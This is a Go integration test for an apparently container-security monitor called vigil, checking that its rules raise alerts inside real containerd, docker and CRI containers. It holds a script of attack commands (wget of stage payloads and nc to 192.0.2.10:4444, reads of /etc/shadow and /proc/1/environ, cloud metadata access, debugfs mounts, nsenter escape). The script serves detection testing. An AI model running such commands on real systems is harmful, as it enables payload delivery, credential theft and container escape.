package main

import (
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-project/vigil/internal/ctrtest"
	"github.com/vigil-project/vigil/internal/testenv"
)

// checkFields reports every field of ev that differs from want.
func checkFields(t *testing.T, what string, ev map[string]any, want map[string]any) {
	t.Helper()
	for k, v := range want {
		if fmt.Sprint(ev[k]) != fmt.Sprint(v) {
			t.Errorf("%s: %s = %v, want %v", what, k, ev[k], v)
		}
	}
}

// Real containers, started by real runtimes, judged by the built-in rules
// with the runtimes' metadata: a terminal shell in a ctr and a docker
// container, and a read of /etc/shadow in a pod created through CRI.
func TestRunContainerAlerts(t *testing.T) {
	needRoot(t)
	testenv.SkipShort(t, "starts container runtimes")
	ctrd := ctrtest.StartContainerd(t)
	dockerd := ctrtest.StartDockerd(t, ctrd)
	cfgPath := filepath.Join(t.TempDir(), "vigil.yaml")
	addr := freePort(t)
	cfg := fmt.Sprintf("containers:\n  containerd: %s\n  cri: %s\n  docker: %s\n  podman: \"\"\nmetrics: {address: %q}\n",
		ctrd.Socket, ctrd.Socket, dockerd.Socket, addr)
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	alerts, stderr := startRunLog(t, "--config", cfgPath)

	t.Run("ctr run -t", func(t *testing.T) {
		// Privileged, with a read-only bind: the event says so.
		dir := t.TempDir()
		out, err := ctrtest.RunTTY(exec.Command("ctr", "--address", ctrd.Socket, "--namespace", "default",
			"run", "-t", "--rm", "--privileged", "--mount", "type=bind,src="+dir+",dst=/data,options=rbind:ro",
			ctrtest.Ref, "vigil-tty", "/bin/sh", "-c", "tty"), 30*time.Second)
		if err != nil || !strings.Contains(out, "/dev/pts/") {
			t.Fatalf("ctr run -t: %v\n%s", err, out)
		}
		a := waitAlertWhere(t, alerts, "for container vigil-tty", "Terminal shell in container", func(ev map[string]any) bool { return ev["container.id"] == "vigil-tty" })
		ev := a["event"].(map[string]any)
		checkFields(t, "ctr", ev, map[string]any{
			"container.name": "vigil-tty", "container.image": ctrtest.Ref, "container.runtime": "containerd",
			"container.full_id": "vigil-tty", "proc.name": "sh", "proc.exe": "/bin/busybox", "container.privileged": true,
		})
		if m, _ := ev["container.mounts"].([]any); !slices.Contains(m, any(dir+":/data:ro")) || !slices.Contains(m, any("proc:/proc:rw")) {
			t.Errorf("container.mounts = %v", ev["container.mounts"])
		}
		if ev["proc.tty"] == float64(0) {
			t.Errorf("proc.tty = 0 for a shell with a terminal")
		}
		if o := a["output"].(string); !strings.Contains(o, "name=vigil-tty image="+ctrtest.Ref) {
			t.Errorf("output %q lacks the container's name and image", o)
		}
	})

	t.Run("docker run -t", func(t *testing.T) {
		out, err := ctrtest.RunTTY(dockerd.Command("run", "-t", "--rm", "--network", "none", "--name", "vigil-web",
			"--label", "team=green", ctrtest.DockerRef, "/bin/sh", "-c", "tty"), 30*time.Second)
		if err != nil || !strings.Contains(out, "/dev/pts/") {
			t.Fatalf("docker run -t: %v\n%s", err, out)
		}
		a := waitAlertWhere(t, alerts, "for container vigil-web", "Terminal shell in container", func(ev map[string]any) bool { return ev["container.name"] == "vigil-web" })
		ev := a["event"].(map[string]any)
		checkFields(t, "docker", ev, map[string]any{
			"container.image": ctrtest.DockerRef, "container.runtime": "docker", "proc.name": "sh",
			"container.labels": map[string]any{"team": "green"}, "container.privileged": false, "container.mounts": []any{},
		})
		if id, _ := ev["container.id"].(string); len(id) != 12 || !strings.HasPrefix(ev["container.full_id"].(string), id) {
			t.Errorf("container.id %q, full_id %q", ev["container.id"], ev["container.full_id"])
		}
	})

	t.Run("CRI pod reads /etc/shadow", func(t *testing.T) {
		pod := ctrd.RunPod(t, "shop", "cart-7d9f", "0f0e0d0c-0b0a-4909-8807-0605040302aa")
		id := pod.Start(t, "cart", "/bin/cat", "/etc/shadow")
		a := waitAlertWhere(t, alerts, "for the pod's container", "Read sensitive file by untrusted program", func(ev map[string]any) bool { return ev["container.full_id"] == id })
		ev := a["event"].(map[string]any)
		checkFields(t, "cri", ev, map[string]any{
			"k8s.ns": "shop", "k8s.pod": "cart-7d9f", "container.name": "cart", "container.image": ctrtest.Ref,
			"container.runtime": "cri", "container.id": id[:12], "file.path": "/etc/shadow", "proc.name": "cat",
		})
	})
	// Attacks performed with the image's busybox, in a privileged ctr
	// container (the calls succeed) and an unprivileged docker one (the
	// kernel refuses the mounts and namespace changes: still reported).
	t.Run("ctr attacks", func(t *testing.T) {
		const id = "vigil-attacks"
		out := ctrd.Ctr(t, "default", "run", "--rm", "--privileged", ctrtest.Ref, id, "/bin/sh", "-c", containerAttacks+"exit 0")
		t.Logf("script output:\n%s", out)
		waitContainerAlerts(t, alerts, func(ev map[string]any) bool { return ev["container.id"] == id }, map[string]string{
			"Drop and execute new binary in container":         "exe=/tmp/sleep process=sleep cmdline=sleep 1 vpid=",
			"Remote file copy tool launched in container":      "process=exe cmdline=exe wget -q -T 1 -O /dev/null http://192.0.2.10/stage2 ",
			"Environment of another process read in container": "file=/proc/1/environ res=3 process=exe cmdline=exe /proc/1/environ ",
			"Package manager launched in container":            "cmdline=apk add curl ",
			"Packet or raw socket opened in container":         "domain=AF_PACKET type=SOCK_DGRAM protocol=0 res=3 process=exe exe=/bin/busybox cmdline=exe arping ",
			"Privileged mount in container":                    "source=none target=/tmp/dbg fstype=debugfs flags=32768 res=0 process=exe cmdline=exe mount -t debugfs none /tmp/dbg ",
			"Namespace change attempt in container":            "setns namespaces=mnt flags=131072 res=0 process=nsenter cmdline=nsenter -t 1 -m true ",
			"Cloud metadata service contacted from container":  "connection=169.254.169.254:80 ",
			"Network reconnaissance or sniffing tool launched": "process=nc cmdline=nc -w 1 192.0.2.10 4444 ",
			"Container escape tool launched in container":      "cmdline=nsenter -t 1 -m true ",
		})
	})

	t.Run("docker attacks", func(t *testing.T) {
		// The container's init finally replaces itself with a binary that
		// is not in the image: its entrypoint changed.
		dockerd.Run(t, "run", "--rm", "--network", "none", "--name", "vigil-attacks", ctrtest.DockerRef,
			"/bin/sh", "-c", containerAttacks+"exec /tmp/sleep 1")
		waitContainerAlerts(t, alerts, func(ev map[string]any) bool { return ev["container.name"] == "vigil-attacks" }, map[string]string{
			"Drop and execute new binary in container":         "exe=/tmp/sleep process=sleep cmdline=sleep 1 vpid=1 ",
			"Remote file copy tool launched in container":      "cmdline=wget -q -T 1 -O /dev/null http://192.0.2.10/stage3 ",
			"Environment of another process read in container": "file=/proc/1/environ res=3 process=exe cmdline=exe /proc/1/environ ",
			"Package manager launched in container":            "cmdline=apk add curl ",
			"Packet or raw socket opened in container":         "domain=AF_PACKET type=SOCK_DGRAM protocol=0 res=3 process=exe exe=/bin/busybox cmdline=exe arping ",
			"Privileged mount in container":                    "source=none target=/tmp/dbg fstype=debugfs flags=32768 res=-1 process=exe cmdline=exe mount -t debugfs none /tmp/dbg ",
			"Namespace change attempt in container":            "unshare namespaces=user flags=268435456 res=-1 process=exe cmdline=exe unshare -r true ",
			"Cloud metadata service contacted from container":  "connection=169.254.169.254:80 ",
		})
	})

	// Three containers (and the pod's sandbox) were looked up, each
	// started by a create event; the cache holds them.
	_, body := get(t, "http://"+addr+"/metrics")
	if v, ok := metricValue(body, "vigil_container_lookups_total", `{result="found"}`); !ok || v < 3 {
		t.Errorf("vigil_container_lookups_total{found} = %v, %v", v, ok)
	}
	if v, ok := metricValue(body, "vigil_container_prefetches_total", ""); !ok || v < 3 {
		t.Errorf("vigil_container_prefetches_total = %v, %v", v, ok)
	}
	if v, ok := metricValue(body, "vigil_container_cache_entries", ""); !ok || v < 3 {
		t.Errorf("vigil_container_cache_entries = %v, %v", v, ok)
	}
	if _, ok := metricValue(body, "vigil_container_metadata_misses_total", ""); !ok {
		t.Error("vigil_container_metadata_misses_total missing")
	}
	if t.Failed() {
		t.Logf("vigil log:\n%s", stderr.String())
	}
}

// containerAttacks is a script of attacks for the test image's busybox:
// a copy of busybox run from /tmp (drift), downloads with the wget
// applet by name and through a link, the environment of pid 1 read
// (after the script's own, which is no finding), a package manager, a
// packet socket (arping), debugfs mounted, nsenter and unshare -r, and
// the cloud metadata address (nc: this static busybox's wget crashes
// before it connects). Every step may fail: the attempt is what
// the rules see.
const containerAttacks = `busybox cp /bin/busybox /tmp/sleep; busybox chmod 755 /tmp/sleep; /tmp/sleep 1
busybox wget -q -T 1 -O /dev/null http://192.0.2.10/stage2
busybox ln -s /bin/busybox /tmp/wget; /tmp/wget -q -T 1 -O /dev/null http://192.0.2.10/stage3
busybox ln -s /bin/busybox /tmp/nc; /tmp/nc -w 1 192.0.2.10 4444 </dev/null
cat /proc/self/environ >/dev/null; cat /proc/1/environ >/dev/null
busybox ln -s /bin/busybox /tmp/apk; /tmp/apk add curl
busybox arping -c 1 -w 1 -I lo 127.0.0.1
busybox mkdir /tmp/dbg; busybox mount -t debugfs none /tmp/dbg && busybox umount /tmp/dbg
busybox ln -s /bin/busybox /tmp/nsenter; /tmp/nsenter -t 1 -m true
busybox unshare -r true
/tmp/nc -w 1 169.254.169.254 80 </dev/null
`

// waitContainerAlerts waits for an alert of each rule of want on an event
// that inContainer accepts, and checks that its output contains want's
// text. An alert of the environ rule on any file but pid 1's (the
// script's own environment) is an error.
func waitContainerAlerts(t *testing.T, alerts <-chan map[string]any, inContainer func(ev map[string]any) bool, want map[string]string) {
	t.Helper()
	missing := maps.Clone(want)
	var seen []string // what the container raised, for the failure
	deadline := time.After(30 * time.Second)
	for len(missing) > 0 {
		select {
		case a, open := <-alerts:
			if !open {
				t.Fatalf("alert stream ended; missing %v", slices.Sorted(maps.Keys(missing)))
			}
			ev, _ := a["event"].(map[string]any)
			rule, _ := a["rule"].(string)
			if !inContainer(ev) {
				continue
			}
			out, _ := a["output"].(string)
			seen = append(seen, rule+": "+out)
			if rule == "Environment of another process read in container" && ev["file.path"] != "/proc/1/environ" {
				t.Errorf("own environment reported: %s", out)
			}
			text, ok := missing[rule]
			if !ok || !strings.Contains(out, text) {
				continue
			}
			delete(missing, rule)
		case <-deadline:
			t.Fatalf("no alerts within 30s for %v; the container raised:\n%s", slices.Sorted(maps.Keys(missing)), strings.Join(seen, "\n"))
		}
	}
}
